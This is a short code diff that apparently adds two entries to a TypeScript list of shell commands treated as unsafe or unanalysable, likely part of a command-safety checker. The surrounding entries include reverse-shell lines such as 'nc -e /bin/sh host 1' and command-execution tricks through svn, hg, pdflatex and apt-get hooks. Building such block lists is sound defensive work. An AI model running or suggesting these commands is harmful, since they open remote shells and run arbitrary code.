@@ -351,6 +351,8 @@ export const unknowable: Readonly<Record<string, readonly string[]>> = {
     'pdflatex -shell-escape x.tex',
     'hg --config alias.x=!ls x',
     'svn diff --diff-cmd evil',
+    'svn co svn+evil://host/x',
+    'jj config set --user aliases.x \'["util", "exec"]\'',
     'apt-get -o DPkg::Pre-Invoke::=evil install x',
     'nc -e /bin/sh host 1',
     'ncat --sh-exec evil host 1',
